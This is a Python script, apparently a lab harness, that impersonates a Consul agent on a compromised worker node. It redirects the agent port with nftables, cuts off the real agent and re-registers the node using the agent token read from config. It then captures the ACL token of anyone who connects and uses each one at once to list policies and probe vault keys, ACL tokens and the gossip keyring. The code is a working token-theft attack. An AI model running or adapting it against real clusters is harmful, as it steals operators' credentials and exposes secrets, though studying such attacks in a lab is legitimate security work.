"""A hostile worker plays its own Consul agent, looks as if it had not joined, and waits for whoever comes to help.

Runs on the node until standard input ends; then prints what was presented to it and what each token could have done.
Arguments: the addresses of a Consul server and of this node.
"""

from __future__ import annotations

import json
import re
import ssl
import subprocess
import sys
import threading
import urllib.error
import urllib.request
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

SERVER, PORT = sys.argv[1], 18501
TRUST = ssl.create_default_context(cafile="/etc/ssl/consul/consul-ca.pem")
OWN = re.findall(r'agent = "([^"]+)"', Path("/etc/consul.d/consul.hcl").read_text(encoding="utf-8"))[0]
NAME = Path("/etc/hostname").read_text(encoding="utf-8").strip()
# The real agent keeps running but does not reach its servers; who asks it meets this program.
RULES = f"""
table inet forged {{
  chain out {{ type filter hook output priority 0; tcp dport 8300 reject with tcp reset; }}
  chain in {{ type nat hook prerouting priority -110; tcp dport 8501 redirect to :{PORT}; }}
}}
"""
CAUGHT: list[dict[str, Any]] = []


def ask(path: str, token: str, body: Any = None) -> tuple[int, Any]:
    data = None if body is None else json.dumps(body).encode()
    asked = urllib.request.Request(f"https://{SERVER}:8501/v1/{path}", data, {"X-Consul-Token": token})
    asked.method = "GET" if body is None else "PUT"
    try:
        with urllib.request.urlopen(asked, context=TRUST, timeout=5) as answer:  # noqa: S310 - https, as above
            return answer.status, json.loads(answer.read() or "null")
    except urllib.error.HTTPError as error:
        return error.code, error.read().decode()


class Agent(BaseHTTPRequestHandler):
    """Says yes to everything, and uses each token at once."""

    def answer(self) -> None:
        self.rfile.read(int(self.headers.get("Content-Length") or 0))
        token = self.headers.get("X-Consul-Token")
        if token:
            status, own = ask("acl/token/self", token)
            rights = [one["Name"] for one in own.get("Policies") or ()] if status == 200 else []
            opened = [
                path for path in ("kv/vault/?keys", "acl/tokens", "operator/keyring") if ask(path, token)[0] == 200
            ]
            CAUGHT.append({"path": self.path, "policies": rights, "opens": opened})
        self.send_response(200)
        self.send_header("Content-Length", "0")
        self.end_headers()

    do_GET = do_PUT = answer

    def log_message(self, format: str, *arguments: Any) -> None:  # noqa: A002 - its name there
        return


server = ThreadingHTTPServer(("0.0.0.0", PORT), Agent)  # noqa: S104 - in a lab
served = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
served.load_cert_chain("/etc/ssl/consul/consul.pem", "/etc/ssl/consul/consul-key.pem")
server.socket = served.wrap_socket(server.socket, server_side=True)
threading.Thread(target=server.serve_forever, daemon=True).start()
subprocess.run(("nft", "--file", "-"), input=RULES, text=True, check=True)
try:
    forged = {"Node": NAME, "Address": sys.argv[2], "NodeMeta": {"zone": "user"}}
    assert ask("catalog/register", OWN, forged) == (200, True)
    print("ready", flush=True)
    sys.stdin.read()
finally:
    subprocess.run(("nft", "delete", "table", "inet", "forged"), check=True)
print(json.dumps(CAUGHT))
